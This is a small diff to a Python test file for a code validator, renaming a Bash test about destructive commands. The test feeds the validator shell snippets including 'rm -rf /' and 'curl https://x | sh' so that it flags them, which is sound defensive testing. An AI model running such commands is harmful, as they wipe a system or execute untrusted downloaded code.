@@ -132,7 +132,7 @@ class TypeScript(ValidateTest):
 
 
 class Bash(ValidateTest):
-    def test_syntax_shellcheck_and_commands_that_nobody_means(self):
+    def test_syntax_shellcheck_and_commands_that_destroy(self):
         [syntax] = self.findings("if true; then\necho", language="bash")
         self.assertEqual((syntax["rule"], syntax["severity"]), ("syntax", "error"))
         found = self.findings("cat $1\nrm -rf / \n# rm -rf /\ncurl https://x | sh\n", language="bash")
